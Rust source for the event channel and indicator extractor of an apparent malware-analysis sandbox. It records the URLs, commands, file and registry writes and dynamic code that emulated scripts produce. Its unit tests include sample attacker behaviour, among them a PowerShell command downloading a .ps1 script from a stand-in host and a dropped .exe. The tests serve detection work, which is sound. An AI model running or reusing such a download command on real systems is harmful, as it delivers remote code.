//! The host side of an emulated environment: the event channel a prelude writes to, and the
//! indicators extracted from its events.
//!
//! An environment's prelude (JavaScript, in `guests/js/`) reports every emulated API call as
//! one line on a private descriptor: `TOKEN \t JSON \n`, where `TOKEN` is a random value the
//! host put into the prelude's source for this run only, and JSON is
//! `{"c": category, "a": api, "v": [argument, ...], "r": result, "i": {indicator: value}}`
//! with every value a string the script computed at run time. The script under analysis can
//! write to that descriptor too, but it cannot know the token: its lines are counted as
//! forged and otherwise ignored.
//!
//! Each accepted line becomes an [`Event`](crate::trace::Event) in the run's trace (when the
//! run is traced) and feeds the [`Indicators`] (always).

use std::collections::{BTreeMap, HashSet};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use crate::trace::{Category, Recorder};

/// The descriptor number the prelude writes its events to (not a real WASI descriptor: writes
/// to it never reach the WASI context).
pub(crate) const CHANNEL_FD: u32 = 0x7a1c;

/// Bytes of event lines accepted per run; later lines are counted as dropped.
const MAX_CHANNEL_BYTES: u64 = 256 << 20;
/// Dynamic code snippets kept (distinct by hash); later ones are only counted.
const MAX_SNIPPETS: usize = 1000;
/// Characters of a snippet's text kept in the report.
const MAX_SNIPPET_TEXT: usize = 16 * 1024;
/// Distinct indicators kept per list.
const MAX_PER_LIST: usize = 10_000;
/// Bytes of outbound data kept per entry.
const MAX_OUTBOUND_TEXT: usize = 4096;

/// A file the script wrote (or would have written) in the emulated environment.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct FileWrite {
    /// The path as the script gave it (environment variables expanded by the emulator).
    pub path: String,
    /// Bytes written, if the content is known.
    pub size: Option<u64>,
    /// SHA-256 of the content (hex), if known.
    pub sha256: Option<String>,
    /// The API that wrote it.
    pub api: String,
}

/// A registry value written.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct RegistryWrite {
    /// The full key including the value name, hive abbreviated (`HKCU\...\Run\name`).
    pub key: String,
    /// The data written.
    pub value: String,
}

/// A scheduled task registered.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ScheduledTask {
    /// The task's name.
    pub name: String,
    /// What it runs (path and arguments).
    pub command: String,
}

/// A shortcut saved.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Shortcut {
    /// Where the `.lnk` was saved.
    pub path: String,
    /// What it points to (target and arguments).
    pub target: String,
}

/// Code produced at run time (`eval`, `Function`, string timers, `document.write`n scripts ...).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Snippet {
    /// How it was run: `eval`, `Function`, `setTimeout`, ...
    pub kind: String,
    /// SHA-256 of the whole text (hex).
    pub sha256: String,
    /// Its size in bytes.
    pub size: u64,
    /// Times this same text was run.
    pub count: u64,
    /// The text, cut at 16 KiB.
    pub text: String,
    /// True if `text` was cut.
    pub truncated: bool,
}

/// Data the script sent somewhere.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Outbound {
    /// Where it went.
    pub url: String,
    /// The API that sent it.
    pub api: String,
    /// Its size in bytes.
    pub size: u64,
    /// The data, cut at 4 KiB.
    pub data: String,
}

/// What an analysed script did, extracted from its emulated API calls (run-time values).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Indicators {
    /// Every URL requested, loaded, navigated to, sent to or put into the page as a resource,
    /// WHATWG-normalised; same-origin URLs of the emulated page as paths (`/x`).
    pub urls: Vec<String>,
    /// Host names and IP literals of those URLs, and names looked up.
    pub domains: Vec<String>,
    /// The IP literals among `domains`.
    pub ip_addresses: Vec<String>,
    /// Commands run (process creations, scheduled-task actions).
    pub commands: Vec<String>,
    /// Files written.
    pub files_written: Vec<FileWrite>,
    /// Registry values written.
    pub registry: Vec<RegistryWrite>,
    /// Scheduled tasks registered.
    pub scheduled_tasks: Vec<ScheduledTask>,
    /// Shortcuts saved.
    pub shortcuts: Vec<Shortcut>,
    /// Code produced at run time, distinct by hash.
    pub snippets: Vec<Snippet>,
    /// Data sent out.
    pub outbound: Vec<Outbound>,
}

impl Indicators {
    /// True if nothing was extracted.
    pub fn is_empty(&self) -> bool {
        *self == Indicators::default()
    }
}

/// The emulation part of a run's result.
#[derive(Debug, Clone, Default, Serialize)]
pub struct Emulation {
    /// The environment's name (`browser`, `wsh`, `node`, or a custom prelude's file name).
    pub environment: String,
    /// Emulated API calls reported.
    pub api_calls: u64,
    /// Lines written to the event channel without the run's token (the script itself writing
    /// to the channel's descriptor).
    pub forged_lines: u64,
    /// Event lines dropped past the channel's byte budget, or unreadable.
    pub dropped_lines: u64,
    /// Snippets seen past the snippet cap, or whose text did not all arrive (counted, not kept).
    pub snippets_dropped: u64,
    /// What was extracted.
    pub indicators: Indicators,
    /// Notes about the input (how its bytes were decoded).
    pub notes: Vec<String>,
}

/// One event line's JSON.
#[derive(Deserialize)]
struct Line {
    #[serde(default)]
    c: String,
    #[serde(default)]
    a: String,
    #[serde(default)]
    v: Vec<String>,
    #[serde(default)]
    r: Option<String>,
    #[serde(default)]
    i: BTreeMap<String, String>,
}

/// Where the channel is in the line it is receiving.
enum LineState {
    /// Receiving a line that so far may be the driver's.
    Open,
    /// In a line that did not start with the token (counted as forged).
    Skipping,
    /// In a line past the budget (counted as dropped when it ends).
    OverBudget,
}

/// The host end of the event channel of one run.
pub(crate) struct Channel {
    token: Vec<u8>,
    /// The line being received, while it can still be the driver's.
    pending: Vec<u8>,
    state: LineState,
    /// Bytes of the driver's lines so far (against [`MAX_CHANNEL_BYTES`]).
    bytes: u64,
    /// Whether the driver said the script has started: what it sends after that is not trusted.
    script_started: bool,
    extractor: Extractor,
    /// Code the bootstrap compiled and sent, as (`driver` or `env`, base64 of QuickJS bytecode).
    pub bytecode: Vec<(String, String)>,
    /// Parts of a long piece of dynamic code received so far, for the event that follows them.
    code: Option<Code>,
    /// The result so far.
    pub emulation: Emulation,
}

impl Channel {
    /// A channel for a run whose prelude was given `token`.
    pub fn new(token: String, environment: String, base_url: Option<&str>) -> Channel {
        let mut token = token.into_bytes();
        token.push(b'\t');
        Channel {
            token,
            pending: Vec::new(),
            state: LineState::Open,
            bytes: 0,
            script_started: false,
            extractor: Extractor::new(base_url),
            bytecode: Vec::new(),
            code: None,
            emulation: Emulation {
                environment,
                ..Emulation::default()
            },
        }
    }

    /// The descriptor the channel owns.
    pub fn fd(&self) -> u32 {
        CHANNEL_FD
    }

    /// Takes bytes the guest wrote to the channel's descriptor.
    ///
    /// A line is judged as its bytes arrive: once it cannot start with the token it is counted
    /// as forged and the rest of it is skipped, so whatever else writes to the descriptor costs
    /// no memory and none of the budget, and cannot run into the driver's next line (which
    /// starts with a newline of its own). Empty lines are nothing.
    pub fn write(&mut self, bytes: &[u8], recorder: &Recorder) {
        let mut rest = bytes;
        while !rest.is_empty() {
            let (chunk, ended) = match rest.iter().position(|b| *b == b'\n') {
                Some(nl) => {
                    let chunk = &rest[..nl];
                    rest = &rest[nl + 1..];
                    (chunk, true)
                }
                None => (std::mem::take(&mut rest), false),
            };
            match self.state {
                LineState::Skipping | LineState::OverBudget => {}
                LineState::Open => {
                    let have = self.pending.len();
                    let want = self.token.len().saturating_sub(have).min(chunk.len());
                    let token_part = self.token.get(have..have + want).unwrap_or_default();
                    if chunk[..want] != *token_part {
                        self.emulation.forged_lines += 1;
                        self.pending.clear();
                        self.state = LineState::Skipping;
                    } else if self.bytes + chunk.len() as u64 > MAX_CHANNEL_BYTES {
                        self.pending.clear();
                        self.state = LineState::OverBudget;
                    } else {
                        self.bytes += chunk.len() as u64;
                        self.pending.extend_from_slice(chunk);
                    }
                }
            }
            if ended {
                match std::mem::replace(&mut self.state, LineState::Open) {
                    LineState::Skipping => {}
                    LineState::OverBudget => self.emulation.dropped_lines += 1,
                    LineState::Open if self.pending.is_empty() => {}
                    LineState::Open => {
                        let line = std::mem::take(&mut self.pending);
                        self.line(&line, recorder);
                    }
                }
            }
        }
    }

    fn line(&mut self, line: &[u8], recorder: &Recorder) {
        let Some(json) = line.strip_prefix(self.token.as_slice()) else {
            self.emulation.forged_lines += 1;
            return;
        };
        let Ok(mut line) = serde_json::from_slice::<Line>(json) else {
            self.emulation.dropped_lines += 1;
            return;
        };
        if line.c == "internal" {
            // The driver's own business, not the script's: code it compiled, for the next runs.
            // Only what came before the script started is taken: nothing the script did can have
            // produced it, whatever the script later learns.
            if line.a == "airlock.script" {
                self.script_started = true;
            }
            if line.a == "airlock.bytecode" {
                if self.script_started {
                    self.emulation.forged_lines += 1;
                } else if let (Some(kind), Some(b64)) =
                    (line.i.remove("kind"), line.i.remove("bytecode"))
                {
                    self.bytecode.push((kind, b64));
                }
            }
            if line.a == "airlock.code"
                && let Some(part) = line.i.get("part")
            {
                self.code.get_or_insert_with(Code::default).add(part);
            }
            return;
        }
        self.emulation.api_calls += 1;
        let category = category(&line.c);
        recorder.record(
            &line.a,
            category,
            || render_args(&line.v),
            || match &line.r {
                Some(r) if !r.is_empty() => format!("ok: {}", crate::trace::quote(r)),
                _ => "ok".into(),
            },
            false,
        );
        // Long code came in parts before its event; the event says how many were sent.
        let code = match line.i.get("code_parts") {
            Some(n) => {
                let mut code = self.code.take().unwrap_or_default();
                if n.parse() != Ok(code.parts) {
                    // A part was lost (a line past the channel's budget): the hash would be of
                    // other text.
                    code.complete = false;
                }
                Some(code)
            }
            None => None,
        };
        self.extractor
            .add(&line.a, &line.i, code, &mut self.emulation);
    }

    /// Ends the run: the indicators and counts, and the code compiled during the run.
    pub fn finish(mut self) -> (Emulation, Vec<(String, String)>) {
        if !self.pending.is_empty() || matches!(self.state, LineState::OverBudget) {
            // A line cut by the end of the run (a trap mid-write) is not an event.
            self.emulation.dropped_lines += 1;
        }
        (self.emulation, self.bytecode)
    }
}

/// The trace category of a prelude's category name.
fn category(c: &str) -> Category {
    match c {
        "network" => Category::Network,
        "process" => Category::Process,
        "registry" => Category::Registry,
        "dom" => Category::Dom,
        "dynamic_code" => Category::DynamicCode,
        "filesystem_read" => Category::FilesystemRead,
        "filesystem_write" => Category::FilesystemWrite,
        "directory_listing" => Category::DirectoryListing,
        "environment" => Category::Environment,
        "clock" => Category::Clock,
        _ => Category::Other,
    }
}

/// Bytes kept of each argument of an emulated call: enough for the markup a script writes into
/// a page (a phishing form) to be judged from the trace.
const MAX_ARG_BYTES: usize = 4096;

/// Arguments as a trace summary: each quoted and capped, comma-separated.
fn render_args(v: &[String]) -> String {
    v.iter()
        .map(|a| crate::trace::quote_capped(a, MAX_ARG_BYTES))
        .collect::<Vec<_>>()
        .join(", ")
}

/// Turns indicator hints into deduplicated, normalised indicators.
struct Extractor {
    base: Option<url::Url>,
    seen_urls: HashSet<String>,
    seen_domains: HashSet<String>,
    seen_commands: HashSet<String>,
    seen_other: HashSet<(u8, String)>,
    snippets: BTreeMap<String, usize>,
}

impl Extractor {
    fn new(base_url: Option<&str>) -> Extractor {
        Extractor {
            base: base_url.and_then(|b| url::Url::parse(b).ok()),
            seen_urls: HashSet::new(),
            seen_domains: HashSet::new(),
            seen_commands: HashSet::new(),
            seen_other: HashSet::new(),
            snippets: BTreeMap::new(),
        }
    }

    fn add(
        &mut self,
        api: &str,
        i: &BTreeMap<String, String>,
        parts: Option<Code>,
        out: &mut Emulation,
    ) {
        let get = |k: &str| i.get(k).map(String::as_str);
        if let Some(b) = get("base_url") {
            // The environment says where its page is: relative URLs resolve against it, and
            // URLs of its origin are written as paths.
            self.base = url::Url::parse(b).ok();
        }
        if let Some(u) = get("url") {
            let url = self.url(u, &mut out.indicators);
            if let Some(data) = get("data") {
                push_capped(
                    &mut out.indicators.outbound,
                    Outbound {
                        url: url.unwrap_or_else(|| u.to_string()),
                        api: api.to_string(),
                        size: data.len() as u64,
                        data: truncate(data, MAX_OUTBOUND_TEXT).0,
                    },
                );
            }
        }
        if let Some(h) = get("host") {
            self.domain(h, &mut out.indicators);
        }
        if let Some(c) = get("command") {
            self.command(c, &mut out.indicators);
        }
        if let Some(path) = get("file") {
            let content = get("content").map(|c| {
                if get("content_encoding") == Some("latin1") {
                    c.chars().map(|ch| ch as u32 as u8).collect::<Vec<u8>>()
                } else {
                    c.as_bytes().to_vec()
                }
            });
            let w = FileWrite {
                path: path.to_string(),
                size: content.as_ref().map(|c| c.len() as u64),
                sha256: content
                    .as_ref()
                    .map(|c| crate::sandbox::hex(&Sha256::digest(c))),
                api: api.to_string(),
            };
            if self
                .seen_other
                .insert((0, format!("{path}\0{:?}", w.sha256)))
            {
                push_capped(&mut out.indicators.files_written, w);
            }
        }
        if let Some(key) = get("regkey") {
            let value = get("regvalue").unwrap_or_default().to_string();
            if self.seen_other.insert((1, format!("{key}\0{value}"))) {
                push_capped(
                    &mut out.indicators.registry,
                    RegistryWrite {
                        key: key.to_string(),
                        value,
                    },
                );
            }
        }
        if let Some(command) = get("task_command") {
            let name = get("task_name").unwrap_or_default().to_string();
            self.command(command, &mut out.indicators);
            if self.seen_other.insert((2, format!("{name}\0{command}"))) {
                push_capped(
                    &mut out.indicators.scheduled_tasks,
                    ScheduledTask {
                        name,
                        command: command.to_string(),
                    },
                );
            }
        }
        if let Some(path) = get("shortcut") {
            let target = get("target").unwrap_or_default().to_string();
            if self.seen_other.insert((3, format!("{path}\0{target}"))) {
                push_capped(
                    &mut out.indicators.shortcuts,
                    Shortcut {
                        path: path.to_string(),
                        target,
                    },
                );
            }
        }
        let kind = get("code_kind").unwrap_or(api);
        if let Some(code) = get("code") {
            let mut whole = Code::default();
            whole.add(code);
            self.snippet(kind, whole, out);
        } else if let Some(code) = parts {
            self.snippet(kind, code, out);
        }
    }

    /// Records a URL; returns its normalised form.
    fn url(&mut self, raw: &str, ind: &mut Indicators) -> Option<String> {
        let raw = raw.trim();
        if raw.is_empty() {
            return None;
        }
        let parsed = match &self.base {
            Some(b) => b.join(raw),
            None => url::Url::parse(raw),
        };
        let (text, host) = match parsed {
            Ok(u) if matches!(u.scheme(), "javascript" | "about") => return None,
            Ok(u) if u.scheme() == "data" || u.scheme() == "blob" => (u.to_string(), None),
            Ok(u) => {
                let same_origin = self.base.as_ref().is_some_and(|b| b.origin() == u.origin());
                if same_origin {
                    let mut path = u.path().to_string();
                    if let Some(q) = u.query() {
                        path.push('?');
                        path.push_str(q);
                    }
                    if let Some(f) = u.fragment() {
                        path.push('#');
                        path.push_str(f);
                    }
                    (path, None)
                } else {
                    let host = u.host_str().map(|h| h.trim_matches(['[', ']']).to_string());
                    (u.to_string(), host)
                }
            }
            // Not a URL by WHATWG rules (a relative path outside a page, say): kept as written.
            Err(_) => (raw.to_string(), None),
        };
        if let Some(h) = host {
            self.domain(&h, ind);
        }
        if self.seen_urls.len() < MAX_PER_LIST && self.seen_urls.insert(text.clone()) {
            ind.urls.push(text.clone());
        }
        Some(text)
    }

    fn domain(&mut self, host: &str, ind: &mut Indicators) {
        let host = host.trim().trim_end_matches('.').to_ascii_lowercase();
        if host.is_empty() || self.seen_domains.len() >= MAX_PER_LIST {
            return;
        }
        if self.seen_domains.insert(host.clone()) {
            if host.parse::<std::net::IpAddr>().is_ok() {
                ind.ip_addresses.push(host.clone());
            }
            ind.domains.push(host);
        }
    }

    fn command(&mut self, command: &str, ind: &mut Indicators) {
        let command = command.trim();
        if command.is_empty() {
            return;
        }
        if self.seen_commands.len() < MAX_PER_LIST && self.seen_commands.insert(command.into()) {
            ind.commands.push(command.to_string());
        }
        for u in urls_in(command) {
            self.url(&u, ind);
        }
    }

    fn snippet(&mut self, kind: &str, code: Code, out: &mut Emulation) {
        if !code.complete {
            out.snippets_dropped += 1;
            return;
        }
        let sha = crate::sandbox::hex(&code.sha.finalize());
        if let Some(&i) = self.snippets.get(&sha) {
            out.indicators.snippets[i].count += 1;
            return;
        }
        if self.snippets.len() >= MAX_SNIPPETS {
            out.snippets_dropped += 1;
            return;
        }
        self.snippets
            .insert(sha.clone(), out.indicators.snippets.len());
        out.indicators.snippets.push(Snippet {
            kind: kind.to_string(),
            sha256: sha,
            size: code.size,
            count: 1,
            truncated: code.size > code.text.len() as u64,
            text: code.text,
        });
    }
}

/// A piece of dynamic code as it arrives, whole or in parts: its hash, size and first
/// [`MAX_SNIPPET_TEXT`] bytes.
struct Code {
    sha: Sha256,
    size: u64,
    text: String,
    parts: u64,
    /// False if a part went missing.
    complete: bool,
}

impl Default for Code {
    fn default() -> Code {
        Code {
            sha: Sha256::new(),
            size: 0,
            text: String::new(),
            parts: 0,
            complete: true,
        }
    }
}

impl Code {
    fn add(&mut self, part: &str) {
        self.sha.update(part.as_bytes());
        self.size += part.len() as u64;
        self.parts += 1;
        let room = MAX_SNIPPET_TEXT.saturating_sub(self.text.len());
        if room > 0 {
            self.text.push_str(&truncate(part, room).0);
        }
    }
}

fn push_capped<T>(v: &mut Vec<T>, item: T) {
    if v.len() < MAX_PER_LIST {
        v.push(item);
    }
}

/// The first `max` bytes of `s` (at a character boundary), and whether it was cut.
fn truncate(s: &str, max: usize) -> (String, bool) {
    if s.len() <= max {
        return (s.to_string(), false);
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    (s[..end].to_string(), true)
}

/// `http(s)://...` URLs inside a command line, up to whitespace or a quote.
fn urls_in(text: &str) -> Vec<String> {
    let lower = text.to_ascii_lowercase();
    let mut found = Vec::new();
    let mut from = 0;
    while let Some(rel) = lower[from..].find("http") {
        let start = from + rel;
        let rest = &lower[start + 4..];
        if !(rest.starts_with("://") || rest.starts_with("s://")) {
            from = start + 4;
            continue;
        }
        let end = text[start..]
            .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '<' | '>' | ')'))
            .map_or(text.len(), |e| start + e);
        found.push(text[start..end].trim_end_matches([',', ';']).to_string());
        from = end;
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn recorder() -> Recorder {
        Recorder::disabled()
    }

    #[test]
    fn lines_without_the_token_are_forged_and_ignored() {
        let mut ch = Channel::new("abc".into(), "wsh".into(), None);
        let r = recorder();
        ch.write(b"abc\t{\"c\":\"process\",\"a\":\"WScript.Shell.Run\",\"v\":[\"calc.exe\"],\"i\":{\"command\":\"calc.exe\"}}\n", &r);
        ch.write(
            b"abd\t{\"c\":\"process\",\"a\":\"x\",\"i\":{\"command\":\"evil\"}}\n",
            &r,
        );
        ch.write(b"{\"i\":{\"command\":\"evil2\"}}\n", &r);
        let (e, _) = ch.finish();
        assert_eq!(e.api_calls, 1);
        assert_eq!(e.forged_lines, 2);
        assert_eq!(e.indicators.commands, vec!["calc.exe"]);
    }

    #[test]
    fn other_writes_to_the_descriptor_cannot_swallow_the_drivers_lines_or_its_budget() {
        let mut ch = Channel::new("tok".into(), "wsh".into(), None);
        let r = recorder();
        let run = b"\ntok\t{\"c\":\"process\",\"a\":\"Run\",\"i\":{\"command\":\"calc.exe\"}}\n";
        // A stray byte with no newline, then the driver's line (which starts with one).
        ch.write(b"x", &r);
        ch.write(run, &r);
        // A flood with no newline, larger than the whole budget, costs nothing.
        let flood = vec![b'A'; 1 << 20];
        for _ in 0..300 {
            ch.write(&flood, &r);
        }
        assert!(ch.pending.capacity() < 4096, "{}", ch.pending.capacity());
        ch.write(b"\ntok", &r); // a line that starts like the token but is not the driver's
        ch.write(
            b"Z\t{\"c\":\"process\",\"a\":\"Run\",\"i\":{\"command\":\"forged.exe\"}}",
            &r,
        );
        ch.write(run, &r);
        let (e, _) = ch.finish();
        assert_eq!(e.indicators.commands, vec!["calc.exe"]);
        assert_eq!(e.api_calls, 2);
        assert_eq!((e.forged_lines, e.dropped_lines), (3, 0));
    }

    #[test]
    fn compiled_code_is_taken_only_before_the_script_starts() {
        let mut ch = Channel::new("t".into(), "wsh".into(), None);
        let r = recorder();
        let bytecode = |kind: &str| {
            format!(
                "\nt\t{{\"c\":\"internal\",\"a\":\"airlock.bytecode\",\"i\":{{\"kind\":\"{kind}\",\"bytecode\":\"AAAA\"}}}}\n"
            )
        };
        ch.write(bytecode("driver").as_bytes(), &r);
        ch.write(b"\nt\t{\"c\":\"internal\",\"a\":\"airlock.script\"}\n", &r);
        ch.write(bytecode("env").as_bytes(), &r);
        let (e, compiled) = ch.finish();
        assert_eq!(compiled, vec![("driver".to_string(), "AAAA".to_string())]);
        assert_eq!(e.forged_lines, 1);
    }

    #[test]
    fn code_in_parts_is_one_snippet_and_a_lost_part_drops_it() {
        let mut ch = Channel::new("t".into(), "browser".into(), None);
        let r = recorder();
        let part = |p: &str| {
            format!("t\t{{\"c\":\"internal\",\"a\":\"airlock.code\",\"i\":{{\"part\":\"{p}\"}}}}\n")
        };
        let event = |n: u32| {
            format!(
                "t\t{{\"c\":\"dynamic_code\",\"a\":\"eval\",\"i\":{{\"code_parts\":\"{n}\",\"code_kind\":\"eval\"}}}}\n"
            )
        };
        for line in [
            part("var a"),
            part(" = 1"),
            event(2),
            part("var b"),
            event(2),
        ] {
            ch.write(line.as_bytes(), &r);
        }
        ch.write(
            b"t\t{\"c\":\"dynamic_code\",\"a\":\"eval\",\"i\":{\"code\":\"var a = 1\"}}\n",
            &r,
        );
        let (e, _) = ch.finish();
        let s = &e.indicators.snippets;
        assert_eq!(s.len(), 1, "{s:?}");
        assert_eq!(
            (s[0].text.as_str(), s[0].size, s[0].count),
            ("var a = 1", 9, 2)
        );
        assert_eq!(
            s[0].sha256,
            crate::sandbox::hex(&Sha256::digest(b"var a = 1"))
        );
        assert_eq!(e.snippets_dropped, 1);
        assert_eq!(e.api_calls, 3);
    }

    #[test]
    fn lines_split_across_writes_are_joined() {
        let mut ch = Channel::new("t".into(), "node".into(), None);
        let r = recorder();
        let line = b"t\t{\"c\":\"network\",\"a\":\"dns.lookup\",\"i\":{\"host\":\"A.Example.\"}}\n";
        for b in line.chunks(3) {
            ch.write(b, &r);
        }
        let (e, _) = ch.finish();
        assert_eq!(e.indicators.domains, vec!["a.example"]);
        assert_eq!(e.dropped_lines, 0);
    }

    #[test]
    fn urls_are_normalised_and_same_origin_ones_become_paths() {
        let mut ch = Channel::new(
            "t".into(),
            "browser".into(),
            Some("https://page.test/index.html"),
        );
        let r = recorder();
        for u in [
            "HTTPS://CDN.Example.com:443/a.js",
            "/pricing-b",
            "pay.php?x=1",
            "http://192.0.2.1:80",
            "javascript:void(0)",
        ] {
            let line = format!(
                "t\t{{\"c\":\"network\",\"a\":\"fetch\",\"i\":{{\"url\":{}}}}}\n",
                serde_json::to_string(u).unwrap_or_default()
            );
            ch.write(line.as_bytes(), &r);
        }
        let (e, _) = ch.finish();
        assert_eq!(
            e.indicators.urls,
            vec![
                "https://cdn.example.com/a.js",
                "/pricing-b",
                "/pay.php?x=1",
                "http://192.0.2.1/"
            ]
        );
        assert_eq!(e.indicators.domains, vec!["cdn.example.com", "192.0.2.1"]);
        assert_eq!(e.indicators.ip_addresses, vec!["192.0.2.1"]);
    }

    #[test]
    fn commands_contribute_their_urls_and_snippets_are_deduplicated() {
        let mut ch = Channel::new("t".into(), "wsh".into(), None);
        let r = recorder();
        ch.write(b"t\t{\"c\":\"process\",\"a\":\"Run\",\"i\":{\"command\":\"powershell -c iwr 'http://x.example/p.ps1'\"}}\n", &r);
        for _ in 0..3 {
            ch.write(
                b"t\t{\"c\":\"dynamic_code\",\"a\":\"eval\",\"i\":{\"code\":\"1+1\",\"code_kind\":\"eval\"}}\n",
                &r,
            );
        }
        let (e, _) = ch.finish();
        assert_eq!(e.indicators.urls, vec!["http://x.example/p.ps1"]);
        assert_eq!(e.indicators.snippets.len(), 1);
        assert_eq!(e.indicators.snippets[0].count, 3);
    }

    #[test]
    fn file_contents_are_hashed() {
        let mut ch = Channel::new("t".into(), "wsh".into(), None);
        let r = recorder();
        ch.write(b"t\t{\"c\":\"filesystem_write\",\"a\":\"ADODB.Stream.SaveToFile\",\"i\":{\"file\":\"C:\\\\x.exe\",\"content\":\"MZ\\u00ff\",\"content_encoding\":\"latin1\"}}\n", &r);
        let (e, _) = ch.finish();
        let f = &e.indicators.files_written[0];
        assert_eq!(f.path, "C:\\x.exe");
        assert_eq!(f.size, Some(3));
        assert_eq!(
            f.sha256.as_deref(),
            Some(crate::sandbox::hex(&Sha256::digest(b"MZ\xff")).as_str())
        );
    }
}
